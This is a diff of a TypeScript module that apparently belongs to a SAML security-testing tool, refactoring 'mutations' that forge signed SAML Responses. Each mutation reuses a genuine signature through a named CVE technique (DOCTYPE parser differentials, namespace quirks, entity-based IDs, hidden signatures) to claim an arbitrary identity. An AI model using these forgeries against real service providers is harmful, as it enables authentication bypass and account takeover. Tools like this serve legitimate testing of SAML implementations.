@@ -24,29 +24,31 @@
  * canonical SignedInfo and so breaks the genuine SignatureValue the attacks reuse.
  */
 import type { Document, Element } from '@xmldom/xmldom';
-import { SAML_ASSERTION_NS, SAML_PROTOCOL_NS, childElements, firstChildNamed, insertAfter, parseXml, serializeXml } from '../../saml/dom.ts';
-import { DSIG_NS, XMLNS_NS, descendants, digestBase64, digestNamed } from '../../saml/xmldsig.ts';
+import { SAML_ASSERTION_NS, SAML_PROTOCOL_NS, childElements, firstChildNamed, insertAfter, serializeXml } from '../../saml/dom.ts';
+import { DSIG_NS, XMLNS_NS, descendants, digestBase64 } from '../../saml/xmldsig.ts';
 import { NotApplied, notApplied, type SentResponse, type SignedMutation } from './context.ts';
-import { afterIssuer, claimIdentity, digestFor, extensionsOf, firstAssertion, ownSignature, referenceUri, rewrite, signedParts, unsignedCopy } from './document.ts';
+import {
+  afterIssuer,
+  claimIdentity,
+  createPrefixedAs,
+  digestFor,
+  digestNameOf,
+  extensionsOf,
+  parseSent,
+  referenceUri,
+  removeOwnSignature,
+  responseAndAssertion,
+  rewrite,
+  setDigestValues,
+  signedResponse,
+  splitDeclaration,
+  unsignedCopy,
+  withDoctype,
+} from './document.ts';
 import { readIdentityOnly } from './params.ts';
 import { EVIL_ASSERTION_ID, EVIL_RESPONSE_ID } from './xsw.ts';
 
 const XML_NS = 'http://www.w3.org/XML/1998/namespace';
-const XML_DECLARATION = /^\s*<\?xml[^?]*\?>/;
-
-function parsed(sent: SentResponse): Document | NotApplied {
-  try {
-    return parseXml(sent.xml);
-  } catch {
-    return notApplied('the document is no longer well-formed XML');
-  }
-}
-
-/** Puts a DOCTYPE right after the XML declaration (or first). */
-function withDoctype(xml: string, doctype: string): string {
-  const match = XML_DECLARATION.exec(xml);
-  return match ? `${match[0]}${doctype}${xml.slice(match[0].length)}` : `${doctype}${xml}`;
-}
 
 export const doctypeDifferentialMutation: SignedMutation<{ identity: string }> = {
   name: 'doctype-differential',
@@ -54,11 +56,11 @@ export const doctypeDifferentialMutation: SignedMutation<{ identity: string }> =
   summary: "CVE-2025-25291: <!DOCTYPE response SYSTEM 'x\"><!--'>, the forged document, then the genuine one hidden in CDATA/comments.",
   readParams: readIdentityOnly,
   apply(sent, { identity }) {
-    const document = parsed(sent);
+    const document = parseSent(sent);
     if (document instanceof NotApplied) return document;
     const root = document.documentElement!;
     const endTag = `</${root.tagName}>`;
-    const genuine = sent.xml.replace(XML_DECLARATION, '');
+    const genuine = splitDeclaration(sent.xml).body;
     claimIdentity(root, identity);
     const forged = serializeXml(root);
     if (!genuine.endsWith(endTag) || !forged.endsWith(endTag)) return notApplied('the document does not end with its root end tag');
@@ -91,55 +93,62 @@ function rebuilt(document: Document, source: Element, namespace: string | null, 
   return element;
 }
 
+/**
+ * Runs `forge` on the parsed Response and its first Assertion; it returns the new document text (these
+ * attacks add a DOCTYPE or entity references, which the DOM cannot carry).
+ */
+function forgeText(sent: SentResponse, forge: (document: Document, response: Element, assertion: Element) => string | NotApplied): SentResponse | NotApplied {
+  const document = parseSent(sent);
+  if (document instanceof NotApplied) return document;
+  const found = responseAndAssertion(document);
+  if (found instanceof NotApplied) return found;
+  const xml = forge(document, found.root, found.assertion);
+  return xml instanceof NotApplied ? xml : { ...sent, xml };
+}
+
 export const namespaceQuirkMutation: SignedMutation<{ identity: string }> = {
   name: 'namespace-quirk',
   point: 'saml.signed',
   summary: 'CVE-2025-25292: empty-string digest in a rebuilt Assertion Signature, xmlns:example="http://example.com\\u0080", the genuine Signature un-namespaced in StatusDetail, an ATTLIST DOCTYPE.',
   readParams: readIdentityOnly,
   apply(sent, { identity }) {
-    const document = parsed(sent);
-    if (document instanceof NotApplied) return document;
-    const response = document.documentElement!;
-    const assertion = firstAssertion(response);
-    if (!assertion) return notApplied('the Response carries no Assertion');
-    let forResponse: Element | undefined;
-    let forAssertion: Element | undefined;
-    for (const signature of descendants(document, 'Signature')) {
-      const target = referencedElement(document, signature);
-      if (!target) continue;
-      if (target === response) forResponse = signature;
-      else if (target.localName === 'Assertion') forAssertion = signature;
-      signature.parentNode!.removeChild(signature);
-    }
-    const source = forAssertion ?? forResponse;
-    if (!source) return notApplied('nothing in the document is signed');
-    const digestName = digestNamed(descendants(source, 'DigestMethod')[0]?.getAttribute('Algorithm'));
-    if (!digestName) return notApplied('the signature uses a digest the mutation does not know');
+    return forgeText(sent, (document, response, assertion) => {
+      let forResponse: Element | undefined;
+      let forAssertion: Element | undefined;
+      for (const signature of descendants(document, 'Signature')) {
+        const target = referencedElement(document, signature);
+        if (!target) continue;
+        if (target === response) forResponse = signature;
+        else if (target.localName === 'Assertion') forAssertion = signature;
+        signature.parentNode!.removeChild(signature);
+      }
+      const source = forAssertion ?? forResponse;
+      if (!source) return notApplied('nothing in the document is signed');
+      const digestName = digestNameOf(source);
+      if (!digestName) return notApplied('the signature uses a digest the mutation does not know');
 
-    const assertionSignature = rebuilt(document, source, source.namespaceURI, source.tagName);
-    for (const value of descendants(assertionSignature, 'DigestValue')) {
-      while (value.firstChild) value.removeChild(value.firstChild);
-      value.appendChild(document.createTextNode(digestBase64('', digestName)));
-    }
-    const issuer = childElements(assertion)[0];
-    if (!issuer || issuer.localName !== 'Issuer') return notApplied('the Assertion does not start with its Issuer');
-    insertAfter(assertionSignature, issuer);
-    assertion.setAttributeNS(XMLNS_NS, 'xmlns:example', 'http://example.com\u0080');
+      const assertionSignature = rebuilt(document, source, source.namespaceURI, source.tagName);
+      setDigestValues(assertionSignature, digestBase64('', digestName));
+      const issuer = childElements(assertion)[0];
+      if (!issuer || issuer.localName !== 'Issuer') return notApplied('the Assertion does not start with its Issuer');
+      insertAfter(assertionSignature, issuer);
+      assertion.setAttributeNS(XMLNS_NS, 'xmlns:example', 'http://example.com\u0080');
 
-    const status = firstChildNamed(response, 'Status');
-    if (!status) return notApplied('the Response has no Status');
-    const statusDetail = document.createElementNS(status.namespaceURI, status.prefix ? `${status.prefix}:StatusDetail` : 'StatusDetail');
-    status.appendChild(statusDetail);
-    if (source.prefix && !response.hasAttribute(`xmlns:${source.prefix}`)) response.setAttributeNS(XMLNS_NS, `xmlns:${source.prefix}`, DSIG_NS);
-    statusDetail.appendChild(rebuilt(document, source, null, 'Signature'));
-    if (!forAssertion) {
-      const id = (referenceUri(source) ?? '').replace(/^#/, '');
-      assertion.setAttribute('ID', id);
-      response.setAttribute('ID', `${id}ffff`);
-    }
-    claimIdentity(assertion, identity);
-    const doctype = '<!DOCTYPE Response [<!ATTLIST Signature xmlns CDATA #FIXED "http://www.w3.org/2000/09/xmldsig#" xmlns CDATA "block">]>';
-    return { ...sent, xml: withDoctype(serializeXml(document), doctype) };
+      const status = firstChildNamed(response, 'Status');
+      if (!status) return notApplied('the Response has no Status');
+      const statusDetail = createPrefixedAs(status, status.namespaceURI, 'StatusDetail');
+      status.appendChild(statusDetail);
+      if (source.prefix && !response.hasAttribute(`xmlns:${source.prefix}`)) response.setAttributeNS(XMLNS_NS, `xmlns:${source.prefix}`, DSIG_NS);
+      statusDetail.appendChild(rebuilt(document, source, null, 'Signature'));
+      if (!forAssertion) {
+        const id = (referenceUri(source) ?? '').replace(/^#/, '');
+        assertion.setAttribute('ID', id);
+        response.setAttribute('ID', `${id}ffff`);
+      }
+      claimIdentity(assertion, identity);
+      const doctype = '<!DOCTYPE Response [<!ATTLIST Signature xmlns CDATA #FIXED "http://www.w3.org/2000/09/xmldsig#" xmlns CDATA "block">]>';
+      return withDoctype(serializeXml(document), doctype);
+    });
   },
 };
 
@@ -149,38 +158,34 @@ export const entityIdMutation: SignedMutation<{ identity: string }> = {
   summary: 'CVE-2025-23369: the Assertion Signature copied after the Response Issuer with the genuine Assertion in ds:Object; IDs through internal entities (&idViaEntity;).',
   readParams: readIdentityOnly,
   apply(sent, { identity }) {
-    const document = parsed(sent);
-    if (document instanceof NotApplied) return document;
-    const response = document.documentElement!;
-    const assertion = firstAssertion(response);
-    if (!assertion) return notApplied('the Response carries no Assertion');
-    const responseId = response.getAttribute('ID') ?? '';
-    const assertionId = assertion.getAttribute('ID') ?? '';
-    for (const signature of descendants(document, 'Signature')) {
-      if (referenceUri(signature) === `#${responseId}`) signature.parentNode!.removeChild(signature);
-    }
-    const assertionSignature = descendants(document, 'Signature').find((signature) => referenceUri(signature) === `#${assertionId}`);
-    if (!assertionSignature) return notApplied('the Assertion is not signed (entity-id reuses the Assertion signature)');
+    return forgeText(sent, (document, response, assertion) => {
+      const responseId = response.getAttribute('ID') ?? '';
+      const assertionId = assertion.getAttribute('ID') ?? '';
+      for (const signature of descendants(document, 'Signature')) {
+        if (referenceUri(signature) === `#${responseId}`) signature.parentNode!.removeChild(signature);
+      }
+      const assertionSignature = descendants(document, 'Signature').find((signature) => referenceUri(signature) === `#${assertionId}`);
+      if (!assertionSignature) return notApplied('the Assertion is not signed (entity-id reuses the Assertion signature)');
 
-    const copied = assertionSignature.cloneNode(true) as Element;
-    afterIssuer(response, copied);
-    const object = document.createElementNS(DSIG_NS, assertionSignature.prefix ? `${assertionSignature.prefix}:Object` : 'Object');
-    object.setAttribute('xmlns', DSIG_NS);
-    copied.appendChild(object);
-    const genuine = assertion.cloneNode(true) as Element;
-    object.appendChild(genuine);
-    genuine.setAttribute('ID', '&BypassIDUniqueness;' + assertionId);
+      const copied = assertionSignature.cloneNode(true) as Element;
+      afterIssuer(response, copied);
+      const object = createPrefixedAs(assertionSignature, DSIG_NS, 'Object');
+      object.setAttribute('xmlns', DSIG_NS);
+      copied.appendChild(object);
+      const genuine = assertion.cloneNode(true) as Element;
+      object.appendChild(genuine);
+      genuine.setAttribute('ID', '&BypassIDUniqueness;' + assertionId);
 
-    assertion.setAttribute('ID', `${assertionId}ffff`);
-    const own = ownSignature(assertion);
-    if (own) assertion.removeChild(own);
-    claimIdentity(assertion, identity);
-    response.setAttribute('ID', '&idViaEntity;');
+      assertion.setAttribute('ID', `${assertionId}ffff`);
+      removeOwnSignature(assertion);
+      claimIdentity(assertion, identity);
+      response.setAttribute('ID', '&idViaEntity;');
 
-    // The entity references were escaped as attribute text; turn exactly those back into references.
-    const xml = serializeXml(document).replace(/&amp;(idViaEntity|BypassIDUniqueness);/g, '&$1;');
-    const doctype = `<!DOCTYPE response [\n<!ENTITY idViaEntity "${assertionId}">\n<!ENTITY BypassIDUniqueness "&#x50;">\n]>`;
-    return { ...sent, xml: withDoctype(xml, doctype) };
+      // The entity references were escaped as attribute text; turn exactly those back into references.
+      const xml = serializeXml(document).replace(/&amp;(idViaEntity|BypassIDUniqueness);/g, '&$1;');
+      const doctype = `<!DOCTYPE response [\n<!ENTITY idViaEntity "${assertionId}">\n<!ENTITY BypassIDUniqueness "&#x50;">\n]>`;
+      return withDoctype(xml, doctype);
+    });
   },
 };
 
@@ -191,11 +196,9 @@ export const attributePollutionMutation: SignedMutation<{ identity: string }> = 
   readParams: readIdentityOnly,
   apply(sent, { identity }) {
     return rewrite(sent, (document) => {
-      const parts = signedParts(document);
-      if (parts.length === 0) return notApplied('nothing in the document is signed');
-      const root = document.documentElement!;
-      const assertion = firstAssertion(root);
-      if (!assertion) return notApplied('the Response carries no Assertion');
+      const found = signedResponse(document);
+      if (found instanceof NotApplied) return found;
+      const { parts, root, assertion } = found;
       const responsePart = parts.find((part) => part.element === root);
       const assertionPart = parts.find((part) => part.element === assertion);
       const untouched = unsignedCopy(responsePart ? root : assertion);
@@ -219,15 +222,12 @@ export const attributePollutionMutation: SignedMutation<{ identity: string }> = 
 function hideGenuineSignature(fakeDigest: 'forged' | 'empty'): SignedMutation<{ identity: string }>['apply'] {
   return (sent, { identity }) =>
     rewrite(sent, (document) => {
-      const parts = signedParts(document);
-      if (parts.length === 0) return notApplied('nothing in the document is signed');
-      const root = document.documentElement!;
-      const assertion = firstAssertion(root);
-      if (!assertion) return notApplied('the Response carries no Assertion');
+      const found = signedResponse(document);
+      if (found instanceof NotApplied) return found;
+      const { parts, root, assertion } = found;
       const genuine = parts[0]!.signature;
       genuine.parentNode!.removeChild(genuine);
-      const stale = ownSignature(assertion);
-      if (stale) assertion.removeChild(stale);
+      removeOwnSignature(assertion);
       claimIdentity(assertion, identity);
 
       const parent = document.createElementNS(DSIG_NS, 'Parent');
@@ -240,13 +240,10 @@ function hideGenuineSignature(fakeDigest: 'forged' | 'empty'): SignedMutation<{ 
       const fake = genuine.cloneNode(true) as Element;
       for (const reference of descendants(fake, 'Reference')) reference.setAttribute('URI', `#${assertion.getAttribute('ID') ?? ''}`);
       afterIssuer(assertion, fake);
-      const digestName = digestNamed(descendants(fake, 'DigestMethod')[0]?.getAttribute('Algorithm'));
+      const digestName = digestNameOf(fake);
       const digest = fakeDigest === 'empty' ? (digestName ? digestBase64('', digestName) : undefined) : digestFor(assertion, fake);
       if (!digest) return notApplied('the signature uses a transform or digest the mutation cannot reproduce');
-      for (const value of descendants(fake, 'DigestValue')) {
-        while (value.firstChild) value.removeChild(value.firstChild);
-        value.appendChild(document.createTextNode(digest));
-      }
+      setDigestValues(fake, digest);
       if (fakeDigest === 'empty') root.setAttributeNS(XMLNS_NS, 'xmlns:ns', '1');
       return undefined;
     });
